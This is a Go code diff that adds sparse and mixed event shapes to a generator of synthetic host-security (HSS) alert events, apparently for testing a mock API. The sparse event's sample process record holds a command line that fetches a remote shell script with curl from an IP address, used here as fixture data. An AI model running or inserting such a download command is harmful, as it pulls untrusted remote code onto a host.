@@ -201,19 +201,52 @@ func HSSGeneratedHandleStatus(i int) string {
 	return "unhandled"
 }
 
+// Shape says which generated HSS events have most optional fields absent.
+type Shape int
+
+const (
+	// ShapeMixed, the default: real data, where a share of events is sparse (HSSGeneratedSparse).
+	ShapeMixed Shape = iota
+	// ShapeFull fills every field of every event.
+	ShapeFull
+	// ShapeSparse makes every event sparse.
+	ShapeSparse
+)
+
+// HSSGeneratedSparse says whether the i-th generated event of a mixed set is
+// sparse: three in seven.
+func HSSGeneratedSparse(i int) bool { return i%7 < 3 }
+
+func (sh Shape) sparse(i int) bool {
+	switch sh {
+	case ShapeFull:
+		return false
+	case ShapeSparse:
+		return true
+	}
+	return HSSGeneratedSparse(i)
+}
+
 // generateHSSEvents makes n events spread evenly over (from, to], newest
-// first, every field of the response filled in.
-func generateHSSEvents(n int, from, to time.Time, enterpriseProject string) []hssEvent {
+// first, shaped by shape.
+func generateHSSEvents(n int, from, to time.Time, enterpriseProject string, shape Shape) []hssEvent {
 	out := make([]hssEvent, 0, n)
 	span := to.Sub(from)
 	for i := range n {
 		occur := to.Add(-time.Duration(float64(span) * (float64(i) + 0.5) / float64(n))).UnixMilli()
-		out = append(out, generateHSSEvent(i, occur, enterpriseProject))
+		out = append(out, generateHSSEvent(i, occur, enterpriseProject, shape.sparse(i)))
 	}
 	return out
 }
 
-func generateHSSEvent(i int, occur int64, enterpriseProject string) hssEvent {
+// generateHSSEvent makes one event, every field filled in; or, sparse, as
+// real host events mostly are: no handle_time while unhandled, no container,
+// process hashes or child process, one short process_info entry, a few
+// resource fields. A sparse event keeps every field the server filters on.
+func generateHSSEvent(i int, occur int64, enterpriseProject string, sparse bool) hssEvent {
+	if sparse {
+		return generateSparseHSSEvent(i, occur, enterpriseProject)
+	}
 	h := i % len(HSSHostNames)
 	id := fmt.Sprintf("hss-%06d-%d", i, occur)
 	status := HSSGeneratedHandleStatus(i)
@@ -258,6 +291,35 @@ func generateHSSEvent(i int, occur int64, enterpriseProject string) hssEvent {
 		}},
 		"policy_id": "policy-1", "policy_name": "default", "os_type": "Linux", "asset_value": "important",
 		"host_status": "ACTIVE", "agent_status": "online", "protect_status": "opened",
+	}
+	if status == "handled" {
+		ev["handle_time"] = occur + 3_600_000
+	}
+	raw, _ := json.Marshal(ev)
+	return hssEvent{
+		id: id, hostName: HSSHostNames[h], hostIP: HSSGeneratedHostIP(h), privateIP: HSSGeneratedPrivateIP(h),
+		handleStatus: status, enterpriseProject: enterpriseProject, occurTime: occur, raw: raw,
+	}
+}
+
+func generateSparseHSSEvent(i int, occur int64, enterpriseProject string) hssEvent {
+	h := i % len(HSSHostNames)
+	id := fmt.Sprintf("hss-%06d-%d", i, occur)
+	status := HSSGeneratedHandleStatus(i)
+	ev := map[string]any{
+		"event_id": id, "event_class_id": "appwl_1001", "event_type": 3040, "event_name": "Untrusted process running",
+		"severity": HSSSeverities[i%len(HSSSeverities)], "host_name": HSSHostNames[h], "host_id": fmt.Sprintf("host-%d", h),
+		"private_ip": HSSGeneratedPrivateIP(h), "attack_phase": "installation", "attack_tag": "abnormal_behavior",
+		"occur_time": occur, "handle_status": status, "operate_accept_list": []string{"add_to_app_whitelist"},
+		"resource_info": map[string]any{
+			"enterprise_project_id": enterpriseProject, "region_name": "cn-north-4", "host_name": HSSHostNames[h],
+			"host_ip": HSSGeneratedHostIP(h), "host_id": fmt.Sprintf("host-%d", h), "os_type": "Linux",
+		},
+		"process_info": []map[string]any{{
+			"process_name": "curl", "process_path": "/usr/bin/curl", "process_pid": 1000 + i%30000,
+			"process_cmdline": "curl http://198.51.100.7/x.sh",
+		}},
+		"os_type": "Linux",
 	}
 	if status == "handled" {
 		ev["handle_time"] = occur + 3_600_000
